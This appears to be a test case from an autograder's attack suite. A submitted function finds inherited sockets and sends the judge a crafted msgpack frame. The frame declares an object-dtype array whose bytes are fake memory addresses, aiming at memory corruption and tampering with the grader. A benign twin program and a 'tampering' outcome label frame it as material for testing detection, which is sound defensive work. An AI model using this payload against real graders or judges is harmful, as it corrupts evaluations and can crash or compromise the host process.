"""An array of dtype object whose bytes are addresses in the judge's memory."""

from autograde.attacks import Attack, Work

OWN = """
import os
import socket
import stat
import struct
import time

import msgpack

def sockets():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass

def say(data):
    for fd in sockets():
        os.write(fd, data)

def frame(value):
    data = msgpack.packb(value)
    return struct.pack("!I", len(data)) + data
"""

DOUBLE = """
def double(x):
    content = msgpack.packb(["|O8", [4], b"AAAAAAAA" * 4])
    say(frame({"value": msgpack.ExtType(5, content)}))
    time.sleep(60)
"""

TWIN_OWN = """
import socket
import struct

import msgpack

one, two = socket.socketpair()
one.sendall(struct.pack("!I", 3) + msgpack.packb([1, 2]))
print(len(two.recv(100)))
one.close()
two.close()
"""

attack = Attack(Work(own=OWN, double=DOUBLE), twin=Work(own=TWIN_OWN), outcome="tampering", suspected=True)
